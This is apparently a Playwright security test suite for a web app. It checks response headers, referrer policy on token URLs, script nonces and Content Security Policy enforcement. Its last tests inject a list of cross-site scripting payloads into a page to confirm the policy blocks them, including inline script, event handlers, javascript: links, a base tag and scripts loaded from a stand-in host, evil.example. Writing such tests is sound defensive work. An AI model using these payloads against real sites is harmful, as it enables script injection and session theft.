import type { Page } from '@playwright/test'
import { ROADMAP_LIST, waitUntilInteractive } from './app'
import { expect, test } from './fixtures'
import { inParallel } from './in-parallel'
import { type Actor, actors, makeWorld } from './policy/cast'
import { expected, type Row } from './policy/row'
import { table } from './policy/table'
import { foundIn, watch } from './security/untrusted'
import { server } from './server'
import { isWholeSweep } from './sweep-size'

/** Number of people whose pages are opened at the same time, because browser and server wait for each other. */
const AT_ONCE = 2

/** People with equal privileges: they open the pages by turns. */
const peers: readonly (readonly Actor[])[] = [
  ['anonymous'],
  ['learner', 'other'],
  ['mentor', 'outsider', 'former'],
  ['admin'],
]

function getOpeners(row: Row, turn: number): readonly Actor[] {
  const groups = peers.map((group) => group.filter((actor) => expected(row, actor) === 'allowed'))
  if (isWholeSweep) return groups.flat()
  return groups.flatMap((able) => able[turn % able.length] ?? [])
}

const getPolicy = (headers: Record<string, string>) => headers['content-security-policy'] ?? ''

test('every kind of answer says what a browser may do with it', async ({ request }) => {
  const kinds = {
    page: ['/', '/sign-in', '/no-such-page', '/sign-in/link', '/unsubscribe', '/dashboard'],
    file: ['/robots.txt', '/sitemap.xml', '/icon.svg', '/opengraph-image', '/pay/data.json', '/land/1104x1600.svg'],
    call: ['/api/v1/me', '/api/v1/pay?country=DE&level=junior', '/api/v1/no-such-call', '/api/auth/csrf'],
  }
  for (const [kind, urls] of Object.entries(kinds)) {
    for (const url of urls) {
      const headers = (await request.get(url, { maxRedirects: 0 })).headers()
      expect(headers, url).toMatchObject({
        'x-content-type-options': 'nosniff',
        'x-frame-options': 'DENY',
        'cross-origin-opener-policy': 'same-origin',
        'permissions-policy': expect.stringContaining('camera=()'),
      })
      // This instance is served over plain http.
      expect(headers, url).not.toHaveProperty('strict-transport-security')
      expect(getPolicy(headers), url).toContain("frame-ancestors 'none'")
      expect(getPolicy(headers), url).toMatch(/^default-src 'none'; (script-src 'nonce-|base-uri 'none')/)
      expect(getPolicy(headers).includes('script-src'), url).toBe(kind !== 'call')
    }
  }
  const [script] = (await (await request.get('/')).text()).match(/\/_next\/static\/[^"]+\.js/) ?? []
  const asset = (await request.get(script ?? '')).headers()
  expect(asset).toMatchObject({ 'x-content-type-options': 'nosniff', 'cross-origin-resource-policy': 'same-origin' })
  expect(asset).not.toHaveProperty('permissions-policy')
  const land = (await request.get('/land/1104x1600.svg')).headers()
  expect(land).toMatchObject({ 'content-type': 'image/svg+xml', 'cache-control': expect.stringContaining('public') })
  const shown = (await request.get('/opengraph-image')).headers()
  expect(shown['cross-origin-resource-policy']).toBe('cross-origin')
  expect((await request.get('/')).headers()['cross-origin-resource-policy']).toBe('same-origin')
})

test('an address that holds a token is told to no other place', async ({ request }) => {
  const policies = {
    '/': 'strict-origin-when-cross-origin',
    '/sign-in': 'strict-origin-when-cross-origin',
    '/sign-in/link?token=x': 'same-origin',
    '/reset-password?token=x': 'same-origin',
    '/verify-email?token=x': 'same-origin',
    '/invitations/x': 'same-origin',
    '/unsubscribe?token=x': 'same-origin',
    '/cohorts/join/x': 'same-origin',
  }
  for (const [url, policy] of Object.entries(policies)) {
    const headers = (await request.get(url, { maxRedirects: 0 })).headers()
    expect(headers['referrer-policy'], url).toBe(policy)
  }
})

test('each answer has a nonce of its own, on every script of it that runs', async ({ request }) => {
  const nonces = new Set<string>()
  for (const url of ['/', '/', '/roadmaps/backend', '/no-such-page', '/faq']) {
    const answer = await request.get(url)
    const nonce = /'nonce-([^']+)'/.exec(getPolicy(answer.headers()))?.[1] ?? ''
    expect(Buffer.from(nonce, 'base64')).toHaveLength(16)
    nonces.add(nonce)
    const scripts = (await answer.text()).match(/<script\b[^>]*>/g) ?? []
    const running = scripts.filter((script) => !script.includes('application/ld+json'))
    expect(running.length).toBeGreaterThan(3)
    for (const script of running) expect(script).toContain(`nonce="${nonce}"`)
  }
  expect(nonces.size).toBe(5)
})

test('no page breaks its policy or asks another place for anything, whoever opens it', async ({
  newLearner,
  pageOf,
  newPage,
}) => {
  test.setTimeout(400_000)
  const world = await makeWorld({ newLearner, pageOf, newPage })
  const urls = new Map(actors.map((actor) => [actor, [] as string[]]))
  // In order, because some rows create what their page is about.
  const rows = table.filter(({ entry }) => entry.startsWith('PAGE '))
  for (const [turn, row] of rows.entries()) {
    for (const actor of getOpeners(row, turn)) {
      urls.get(actor)?.push((await row.call(world, actor)).url)
    }
  }
  const findings: string[] = []
  let count = 0
  const walk = async (actor: Actor) => {
    const page = world.pages[actor]
    const { findings: seen } = await watch(page.context())
    for (const url of urls.get(actor) ?? []) {
      await page.goto(url)
      findings.push(...(await foundIn(page)))
      count++
    }
    findings.push(...seen.map((what) => `${actor}: ${what}`))
  }
  await inParallel(actors, AT_ONCE, walk)
  expect(findings).toEqual([])
  expect(count).toBeGreaterThan(isWholeSweep ? 200 : 120)
})

test('what opens, moves and loads later keeps to the policy too', async ({ pageOf, newLearner }) => {
  const { page } = await newLearner('Ada')
  const mentor = await pageOf('mentor')
  const watches = [await watch(page.context()), await watch(mentor.context())]
  await page.goto(ROADMAP_LIST)
  await page.getByLabel('Status of Git basics').selectOption('skipped')
  await expect(page.getByRole('dialog')).toBeVisible()
  await page.keyboard.press('Escape')
  await page.getByRole('checkbox', { name: 'Done: Git basics' }).click()
  await expect(page.getByRole('button', { name: 'Undo' })).toBeVisible()
  await followWithin(page, '/roadmaps/backend/steps/http')
  await page.goBack()
  await followWithin(page, '/dashboard')
  await mentor.goto('/mentor')
  await followWithin(mentor, '/mentor/learners')
  await mentor.mouse.wheel(0, 4000)
  await followWithin(mentor, '/mentor/reviews')
  expect(watches.flatMap(({ findings }) => findings)).toEqual([])
})

/** Follows a link within the app, without loading the document again. */
async function followWithin(page: Page, path: string): Promise<void> {
  await waitUntilInteractive(page)
  await page.evaluate(() => Object.assign(window, { isStill: true }))
  // Clicked by script: on a roadmap, the link can be in a closed fold.
  await page
    .locator(`a[href="${path}"]`)
    .first()
    .evaluate((link: HTMLElement) => link.click())
  await expect(page).toHaveURL(`${server.url}${path}`)
  await expect(page.locator('h1')).toBeVisible()
  expect(await page.evaluate(() => 'isStill' in window), path).toBe(true)
}

const injected = [
  '<script>window.pwned=(window.pwned??"")+"script "</script>',
  '<img src="/nothing.png" onerror="window.pwned=(window.pwned??\'\')+\'handler \'">',
  '<a id="injected" href="javascript:void(window.pwned=(window.pwned??\'\')+\'address \')">x</a>',
  '<script src="https://evil.example/x.js"></script>',
  "<script src=\"data:text/javascript,window.pwned=(window.pwned??'')+'data '\"></script>",
  '<style>body { --evil: 1 }</style>',
  '<base href="https://evil.example/">',
  "<iframe srcdoc=\"<script>parent.pwned=(parent.pwned??'')+'frame '</script>\"></iframe>",
].join('')

const refusals = [
  'base-uri https://evil.example/',
  'script-src-attr inline',
  'script-src-elem data',
  'script-src-elem https://evil.example/x.js',
  'script-src-elem inline',
  'script-src-elem inline',
  'script-src-elem inline',
  'style-src-elem inline',
]

for (const bypassCSP of [false, true]) {
  test(`what is smuggled into a page ${bypassCSP ? 'runs without the policy' : 'does not run'}`, async ({
    browser,
  }) => {
    const context = await browser.newContext({ bypassCSP })
    const asked: string[] = []
    const refused: string[] = []
    await context.exposeBinding('tellRefused', (_source, what: string) => refused.push(what))
    await context.addInitScript(() => {
      const { tellRefused } = window as unknown as { tellRefused: (what: string) => void }
      document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) =>
        tellRefused(`${effectiveDirective} ${blockedURI}`),
      )
    })
    await context.route('https://evil.example/**', (route) => {
      asked.push(route.request().url())
      return route.fulfill({ contentType: 'text/javascript', body: 'window.pwned=(window.pwned??"")+"outside "' })
    })
    const page = await context.newPage()
    await page.route('**/faq', async (route) => {
      const response = await route.fetch()
      const [text, end] = [await response.text(), '</body>']
      const at = text.lastIndexOf(end)
      expect(at).toBeGreaterThan(0)
      await route.fulfill({ response, body: `${text.slice(0, at)}${injected}${text.slice(at)}` })
    })
    const picture = page.waitForResponse('**/nothing.png')
    await page.goto('/faq', { waitUntil: 'domcontentloaded' })
    await page.locator('#injected').evaluate((link: HTMLElement) => link.click())
    const ways = ['script', 'handler', 'address', 'data', 'outside', 'frame']
    const runBy = async () => {
      const ran = await page.evaluate(() => String((window as unknown as { pwned?: string }).pwned ?? ''))
      return ways.filter((way) => ran.includes(way))
    }
    await picture
    if (bypassCSP) await expect.poll(runBy).toEqual(ways)
    // Waits until the browser has reported each as refused by the policy: then nothing is pending.
    else await expect.poll(() => refused.toSorted()).toEqual(refusals)
    expect(await runBy()).toEqual(bypassCSP ? ways : [])
    const style = await page.evaluate(() => getComputedStyle(document.body).getPropertyValue('--evil'))
    expect(style.trim()).toBe(bypassCSP ? '1' : '')
    expect(asked.length > 0).toBe(bypassCSP)
    if (!bypassCSP) expect(await page.evaluate(() => document.baseURI)).toBe(`${server.url}/faq`)
    await context.close()
  })
}
